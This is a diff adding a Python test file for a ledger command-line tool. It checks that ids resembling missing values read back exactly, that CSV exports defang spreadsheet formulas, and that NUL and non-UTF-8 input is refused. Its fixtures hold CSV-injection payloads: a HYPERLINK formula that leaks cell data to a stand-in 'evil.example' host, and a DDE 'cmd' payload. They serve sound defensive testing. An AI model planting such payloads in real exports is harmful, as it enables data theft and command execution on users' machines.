@@ -1,0 +1,223 @@
+"""Accepted means readable, forever, exactly: any text a write accepts comes back unchanged
+from every read and export of the command line, on SQLite and PostgreSQL; text no store can keep
+is refused at the door (exit 2, nothing written)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+from cli_process import MODULE, Run, custody, ok
+
+from custody.output import undefanged, write_csv
+from ledger import Ledger
+from ledger.domain.model import Outcome, Role
+from ledger.domain.policies import ReleaseReport
+from ledger.domain.profile import Context
+from ledger.domain.view import availability_of
+
+# Texts that look like a missing value, a time, a formula: each is an ordinary id or reason.
+PROFILE = "NaT"
+ACCOUNT = "<NA>"
+PROXY = "None"
+WORKERS = ("2026-12-02T10:00:00-worker-7", "2026-12-02T10:00:00-worker-8")
+RUN, TASK, STEP = "nan", "null", "None"
+URL = '=HYPERLINK("http://evil.example/?leak="&A1)'
+REASONS = ("NaT", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tindented", "'=quoted")
+
+
+@pytest.fixture(params=["sqlite", "postgresql"])
+def store(request: pytest.FixtureRequest, tmp_path: Path) -> str:
+    if request.param == "sqlite":
+        url = f"sqlite:///{tmp_path / 'custody.db'}"
+    else:
+        url = request.getfixturevalue("pg_url")
+    ok(custody("init", cwd=tmp_path, store=url))
+    return url
+
+
+def _cli(store: str, tmp_path: Path, *args: str) -> Run:
+    return ok(custody(*args, cwd=tmp_path, store=store))
+
+
+def _hostile_history(store: str, tmp_path: Path) -> None:
+    """A profile, account and proxy named like missing values; two workers whose ids start
+    like a time; a step, a URL and reasons that look like formulas."""
+    _cli(store, tmp_path, "register", PROFILE, "--account", ACCOUNT, "--proxy", PROXY)
+    for token, (worker, reason) in enumerate(zip(WORKERS, REASONS[:2], strict=True), 1):
+        lease = f"lease-{token}@{PROFILE}"
+        _cli(store, tmp_path, "checkout", PROFILE, "--worker", worker, "--run", RUN, "--task", TASK)
+        _cli(store, tmp_path, "heartbeat", lease, "--token", str(token), "--step", STEP,
+             "--url", URL)  # fmt: skip
+        _cli(store, tmp_path, "release", lease, "--token", str(token), "--outcome",
+             "expected_failure", "--reason", reason, "--final-url", URL)  # fmt: skip
+
+
+def test_texts_that_look_like_missing_values_read_back_exactly(store: str, tmp_path: Path) -> None:
+    """NaT, <NA>, None, nan, null are ordinary ids, names and steps: timeline (json, csv,
+    table), who, why and usage (json, table) return them exactly, and no read fails."""
+    _hostile_history(store, tmp_path)
+    rows = _cli(store, tmp_path, "--json", "timeline", PROFILE).json()
+    assert {r["profile_id"] for r in rows} == {PROFILE}
+    assert {r["account_id"] for r in rows} == {ACCOUNT}
+    leased = [r for r in rows if r["lease_id"] is not None]
+    assert {(r["worker_id"], r["run_id"]) for r in leased} == {(w, RUN) for w in WORKERS}
+    beats = [r for r in rows if r["event_type"] == "lease_heartbeat"]
+    assert [(r["step"], r["url"]) for r in beats] == [(STEP, URL)] * 2
+    released = [r["reason"] for r in rows if r["event_type"] == "lease_release_requested"]
+    assert released == list(REASONS[:2])
+
+    table = _cli(store, tmp_path, "timeline", PROFILE).out
+    assert all(worker in table for worker in WORKERS)
+    who = _cli(store, tmp_path, "--json", "who", PROFILE).json()
+    assert (who["lease"]["worker_id"], who["lease"]["run_id"]) == (WORKERS[1], RUN)
+    assert who["lease"]["task_type"] == TASK
+    why = _cli(store, tmp_path, "--json", "why", PROFILE).json()
+    assert (why["profile_id"], why["account_id"], why["proxy_id"]) == (PROFILE, ACCOUNT, PROXY)
+
+    usage = _cli(store, tmp_path, "--json", "usage", "--account", ACCOUNT).json()
+    assert [(u["profile_id"], u["worker_id"], u["task_type"]) for u in usage] == [
+        (PROFILE, w, TASK) for w in WORKERS
+    ]
+    usage_table = _cli(store, tmp_path, "usage", "--account", ACCOUNT).out.splitlines()
+    assert [next(w for w in WORKERS if w in line) for line in usage_table[1:]] == list(WORKERS)
+
+
+def test_csv_exports_defang_formulas_and_give_every_text_back(store: str, tmp_path: Path) -> None:
+    """A CSV cell a spreadsheet would run as a formula (= + - @ tab CR) starts with a quote;
+    undoing that gives every text back exactly. JSON and parquet keep the exact values."""
+    _hostile_history(store, tmp_path)
+    text = _cli(store, tmp_path, "timeline", PROFILE, "--format", "csv").out
+    cells = list(csv.DictReader(io.StringIO(text)))
+    urls = {c["url"] for c in cells if c["event_type"] == "lease_heartbeat"}
+    assert urls == {"'" + URL}  # what a spreadsheet opens is text, not a formula
+    for row in cells:
+        assert not any(
+            v.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) and not v.startswith("'")
+            for v in row.values()
+        ), row
+    reasons = [undefanged(c["reason"]) for c in cells if c["event_type"].endswith("requested")]
+    assert reasons == list(REASONS[:2])
+
+    parquet = tmp_path / "t.parquet"
+    _cli(store, tmp_path, "timeline", PROFILE, "--output", str(parquet), "--format", "parquet")
+    frame = pd.read_parquet(parquet)
+    assert set(frame.loc[frame["event_type"] == "lease_heartbeat", "url"]) == {URL}
+    assert set(frame["profile_id"]) == {PROFILE}
+
+
+def test_the_html_report_shows_the_texts_escaped_not_erased(store: str, tmp_path: Path) -> None:
+    """The HTML report keeps ids that look like missing values (escaped, never shown as '-')."""
+    _hostile_history(store, tmp_path)
+    _cli(store, tmp_path, "quarantine", PROFILE, "--actor", "op", "--reason", "NaT")
+    page = tmp_path / "report.html"
+    _cli(store, tmp_path, "report", "--html", str(page))
+    html = page.read_text()
+    assert "<td>NaT</td>" in html  # the profile's row in the blocked table
+    assert "&lt;NA&gt;" in html  # its account, escaped
+
+
+def test_text_no_store_can_keep_is_refused_at_the_door(store: str, tmp_path: Path) -> None:
+    """Bytes that are not UTF-8 (as a file name from os.listdir gives them) are bad input at
+    the command line, naming the field, and nothing is written."""
+    _cli(store, tmp_path, "register", "p", "--account", "a", "--proxy", "x")
+    _cli(store, tmp_path, "checkout", "p", "--worker", "w", "--run", "r", "--task", "t")
+    before = _events(store)
+    for field, argv in (
+        ("reason", [b"--reason", b"bad \xff name"]),
+        ("url", [b"--final-url", b"https://x/\xfe"]),
+    ):
+        args = [b"release", b"lease-1@p", b"--token", b"1", b"--outcome", b"failure", *argv]
+        run = subprocess.run(
+            [os.fsencode(a) for a in MODULE] + args,
+            cwd=tmp_path,
+            env=dict(os.environ, CUSTODY_STORE=store),
+            capture_output=True,
+            timeout=60,
+            check=False,
+        )
+        line = run.stderr.decode(errors="replace")
+        assert run.returncode == 2, line
+        assert f"invalid {field if field == 'reason' else 'final_url'}" in line, line
+        assert "UTF-8" in line, line
+    assert _events(store) == before
+
+
+def test_nul_is_refused_by_the_api_naming_the_field(store: str) -> None:
+    """A NUL character (which PostgreSQL's text cannot hold) is bad input in any text a
+    caller gives, and nothing is written."""
+    from ledger import InvalidInput
+
+    with Ledger.open(store) as ledger:
+        ledger.register_profile("p", account_id="a", proxy_id="x")
+        lease = ledger.checkout("p", worker_id="w", run_id="r", task_type="t")
+        before = ledger.store.event_count()
+        attempts: list[tuple[str, Any]] = [
+            ("reason", lambda: ledger.release(lease.lease_id, fencing_token=1,
+                                              outcome="failure", reason="a\x00b")),
+            ("url", lambda: ledger.heartbeat(lease.lease_id, fencing_token=1, url="u\x00")),
+            ("step", lambda: ledger.heartbeat(lease.lease_id, fencing_token=1, step="s\x00")),
+            ("reason", lambda: ledger.quarantine("p", actor="op", reason="r\x00")),
+        ]  # fmt: skip
+        for field, attempt in attempts:
+            with pytest.raises(InvalidInput) as refused:
+                attempt()
+            assert refused.value.field == field
+            said = str(refused.value)  # ids and names refuse every control character
+            assert "NUL" in said or "control characters" in said, said
+        assert ledger.store.event_count() == before
+
+
+def _events(store: str) -> int:
+    with Ledger.open(store) as ledger:
+        return ledger.store.event_count()
+
+
+def test_an_event_stored_with_a_nul_before_the_door_refused_it_stays_readable(
+    store: str, tmp_path: Path
+) -> None:
+    """A release reason holding NUL, stored by an older custody, no longer breaks every read
+    of every profile: the read models show it escaped (\\x00), the events keep it."""
+    _legacy_nul_release(store)
+    for command in (
+        ["why", "p"], ["who", "p"], ["timeline", "p"], ["timeline"], ["status"], ["fleet"],
+        ["health"], ["checklist"], ["report", "--html", str(tmp_path / "r.html")],
+        ["projections", "rebuild"], ["usage", "--account", "a"],
+    ):  # fmt: skip
+        _cli(store, tmp_path, *command)
+    rows = _cli(store, tmp_path, "--json", "timeline", "p").json()
+    said = [r["reason"] for r in rows if r["event_type"] == "lease_release_requested"]
+    assert said == ["ValueError: a\\x00b"]
+    with Ledger.open(store) as ledger:  # the event itself is unchanged
+        assert "ValueError: a\x00b" in {e.envelope.reason for e in ledger.history("p")}
+
+
+def _legacy_nul_release(store: str) -> None:
+    """Append, through the store's port below the command door, what an older custody
+    accepted: a release whose reason holds a NUL."""
+    with Ledger.open(store) as ledger:
+        ledger.register_profile("p", account_id="a", proxy_id="x")
+        lease = ledger.checkout("p", worker_id="w", run_id="r", task_type="t")
+        profile = ledger.store.load("p")
+        assert profile is not None
+        reason = "ValueError: a\x00b"
+        ctx = Context("w", Role.WORKER, ledger.now(), "c1", "c1", "c1", reason)
+        profile.release(lease.lease_id, 1, ReleaseReport(outcome=Outcome.FAILURE), ctx)
+        ledger.store.save(profile, availability_of(profile))
+
+
+def test_a_csv_cell_with_a_carriage_return_is_quoted_and_reads_back() -> None:
+    """A bare carriage return inside a text is quoted like a newline, so a CSV reader gives
+    the cell back whole (once it was written bare and the file could not be read)."""
+    frame = pd.DataFrame({"url": ["https://x/\ra", "b\nc", "\rx"], "n": [1, 2, 3]})
+    out = io.StringIO()
+    write_csv(frame, out)
+    assert out.getvalue().endswith("3\n")
+    got = [undefanged(r["url"]) for r in csv.DictReader(io.StringIO(out.getvalue()))]
+    assert got == ["https://x/\ra", "b\nc", "\rx"]
